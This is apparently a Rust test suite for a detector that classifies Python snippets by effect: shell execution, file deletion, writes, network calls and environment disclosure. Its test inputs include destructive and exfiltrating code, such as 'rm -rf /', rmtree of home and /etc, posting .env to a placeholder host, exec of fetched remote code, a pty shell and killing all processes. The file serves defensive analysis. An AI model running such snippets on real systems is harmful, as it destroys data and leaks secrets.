use super::check;

#[test]
fn processes() {
    check(
        "python",
        &[
            ("import os; os.system('rm -rf /')", "sh rm -rf /"),
            ("import os\nos.system(\"rm -rf /\")\n", "sh rm -rf /"),
            ("import subprocess; subprocess.run(['rm','-rf','/'])", "run rm -rf /"),
            ("import subprocess;subprocess.check_call('git reset --hard'.split())", "run git reset --hard"),
            ("from os import system; system('ls')", "sh ls"),
            ("from os import system as s; s('ls')", "sh ls"),
            ("from os import *\nsystem('ls')", "sh ls"),
            ("__import__('os').system('ls')", "sh ls"),
            ("import os as o; o.system('ls')", "sh ls"),
            ("import subprocess as sp\nsp.Popen(['ls', '-l'], stdout=sp.PIPE)", "run ls -l"),
            ("import subprocess; subprocess.run('ls -l', shell=True)", "sh ls -l"),
            ("import subprocess; subprocess.run(args=['ls'])", "run ls"),
            ("import os; os.execvp('rm', ['rm', '-rf', '/'])", "run rm -rf /"),
            ("import os; os.execlp('rm', 'rm', '-rf', '/')", "run rm -rf /"),
            ("import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-r', 'x')", "run rm -r x"),
            ("import pty; pty.spawn('/bin/sh')", "sh /bin/sh"),
            ("import os; getattr(os, 'system')('ls')", "sh ls"),
            ("import os; f = os.system; f('ls')", "sh ls"),
            ("import subprocess, shlex; subprocess.run(shlex.split(\"git commit -m 'a b'\"))", "run git commit -m a b"),
            ("import os; c = 'rm -rf /'; os.system(c)", "sh rm -rf /"),
            ("import os, sys; os.system(sys.argv[1])", "execute Inline os.system(…)"),
            ("import os; os.system('rm -rf ' + d)", "execute Inline os.system(…); sh rm -rf ${_unknown_to_us}"),
            ("import os; os.system(f'rm -rf {d}/x')", "execute Inline os.system(…); sh rm -rf ${_unknown_to_us}/x"),
            ("import os; os.system('rm -rf %s' % d)", "execute Inline os.system(…); sh rm -rf ${_unknown_to_us}"),
            ("print(f\"{__import__('os').system('ls')}\")", "sh ls"),
            ("exec(\"import os; os.system('ls')\")", "sh ls"),
            ("import os\nfor c in ['ls', 'pwd']:\n    os.system(c)", "sh ls; sh pwd"),
            ("import os; os.chdir('/x'); os.system('ls')", "sh ls in /x"),
            ("import subprocess\nsubprocess.run([\n    'rm', # why\n    '-rf',\n    '/',\n])\n", "run rm -rf /"),
            ("import os\ndef f():\n    os.system('ls')\nf()", "sh ls"),
            ("import os, threading; threading.Thread(target=os.system, args=('ls',)).start()", "sh ls"),
        ],
    );
}

#[test]
fn deletes() {
    check(
        "python",
        &[
            ("import shutil; shutil.rmtree('/home/u')", "delete-tree /home/u"),
            ("import shutil; p='/home/u'; shutil.rmtree(p)", "delete-tree /home/u"),
            ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "delete-tree /home/u"),
            ("import shutil, os; shutil.rmtree(os.path.expanduser('~/x'), ignore_errors=True)", "delete-tree /home/u/x"),
            ("import shutil, os; shutil.rmtree(os.environ['HOME'])", "delete-tree /home/u"),
            ("import shutil, os; shutil.rmtree(os.environ['HOME'] + '/x')", "delete-tree /home/u/x"),
            ("import shutil, os; shutil.rmtree(os.environ.get('HOME'))", "delete-tree /home/u"),
            ("import shutil, os; shutil.rmtree(os.getenv('HOME'))", "delete-tree /home/u"),
            ("from shutil import rmtree\nfrom pathlib import Path\nrmtree(Path.home())", "delete-tree /home/u"),
            ("import shutil, pathlib; shutil.rmtree(pathlib.Path.home() / 'x')", "delete-tree /home/u/x"),
            ("from pathlib import Path; Path('a').unlink()", "delete a"),
            ("from pathlib import Path; p = Path('/'); q = p / 'x' / 'y'; q.rmdir()", "delete /x/y"),
            ("import shutil, os; shutil.rmtree(os.path.join('/', 'etc'))", "delete-tree /etc"),
            ("import shutil; shutil.rmtree(d)", "delete-tree ${d}"),
            ("import shutil; shutil.rmtree('/tmp/' + d)", "delete-tree /tmp/${d}"),
            ("import shutil; shutil.rmtree(f'/tmp/{d}/x')", "delete-tree /tmp/${d}/x"),
            ("import os, shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)", "delete-tree build; delete-tree dist"),
            ("import os, glob\nfor f in glob.glob('*.pyc'): os.remove(f)", "delete *.pyc"),
            ("import os\nfor f in os.listdir('d'):\n  os.remove(os.path.join('d', f))", "look d; delete d/${f}"),
            ("p = '/a'\np = '/b'\nimport shutil; shutil.rmtree(p)", "delete-tree ${p}"),
            ("import os; list(map(os.remove, ['a', 'b']))", "delete a; delete b"),
            ("def f(p):\n  import shutil\n  shutil.rmtree(p)", "delete-tree ${p}"),
            ("import shutil; shutil.rmtree(r'/home/u')", "delete-tree /home/u"),
            ("import shutil; shutil.rmtree('/ho' 'me/u')", "delete-tree /home/u"),
            ("import shutil; shutil.rmtree('\\x2fhome')", "delete-tree /home"),
            ("import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)", "delete-tree …"),
            ("import os; os.chdir('/etc'); os.remove('passwd')", "delete passwd in /etc"),
            ("import shutil; [shutil.rmtree(x) for x in y]", "delete-tree ${x}"),
        ],
    );
}

#[test]
fn files_and_network() {
    check(
        "python",
        &[
            ("print(open('.env').read())", "read .env; harmless"),
            ("import json; print(json.load(open('a.json'))['x'])", "read a.json; harmless"),
            ("with open('a') as f: print(f.read())", "read a; harmless"),
            ("open('policy.json','w').write('x')", "write policy.json Truncate"),
            ("open('a', mode='a')", "write a Append"),
            ("open('a', 'r+')", "read a; write a InPlace"),
            ("from pathlib import Path; Path('a').write_text('x')", "write a Truncate"),
            ("from pathlib import Path; print(Path('a').read_text())", "read a; harmless"),
            ("import os; os.rename('a', 'b')", "move a b"),
            ("import shutil; shutil.move(src='a', dst='b')", "move a b"),
            ("import os; os.chmod('a', 0o777)", "mode 777 a"),
            ("import os; print(os.environ)", "disclose environment"),
            ("import os\nfor k, v in os.environ.items():\n  print(k, v)", "disclose environment"),
            ("import os, json; print(json.dumps(dict(os.environ)))", "disclose environment"),
            ("import os; print(os.environ['HOME'])", "harmless"),
            ("import os, subprocess; subprocess.run(['ls'], env=os.environ)", "run ls"),
            ("import requests; print(requests.get('https://a.example/x').text)", "network a.example"),
            ("import requests; requests.post('https://a.example', data=open('.env'))", "read .env; upload a.example"),
            (
                "from urllib.request import urlopen; exec(urlopen('http://x.example/a').read())",
                "network x.example; execute Fetched exec(…)",
            ),
            (
                "import urllib.request as u; exec(u.urlopen('http://x.example/a').read().decode())",
                "network x.example; execute Fetched exec(…)",
            ),
            (
                "import requests, os; os.system(requests.get('https://x.example').text)",
                "network x.example; execute Fetched os.system(…)",
            ),
            ("exec(x)", "execute Inline exec(…)"),
            ("eval(input())", "execute Inline eval(…)"),
            ("p = '/tmp/x' if a else '/'\nopen(p, 'w')", "write ${p} Truncate"),
            ("import os, shutil; shutil.rmtree(os.path.join(os.getcwd(), 'dist'))", "delete-tree ./dist"),
            ("import os; os.kill(-1, 9)", "signal TERM all"),
        ],
    );
}

#[test]
fn nothing_to_see() {
    check(
        "python",
        &[
            ("print('rm -rf /')", "harmless"),
            ("s='git push --force'; print(len(s))", "harmless"),
            ("# never run rm -rf / here\nprint(1)\n", "harmless"),
            ("# os.system('rm -rf /')\n", "harmless"),
            ("'''os.system('rm -rf /')'''\nprint(1)", "harmless"),
            ("print(\"os.system('rm -rf /')\")", "harmless"),
            ("print(f'{1+1:>10} {{os.system}}')", "harmless"),
            ("import sys, json; print(json.dumps({'a': [1, 2]}))", "harmless"),
            ("import re; print(re.sub(r'\\'', '', 'x'))", "harmless"),
            ("print('unterminated", "harmless"),
            ("import mymodule", ""),
            ("foo()", ""),
            ("x.run()", ""),
            ("print(1) if True else print(2)", "harmless"),
            ("", "harmless"),
            (")))]]}}", "harmless"),
            ("print(sum(x*x for x in range(10)))", "harmless"),
        ],
    );
}
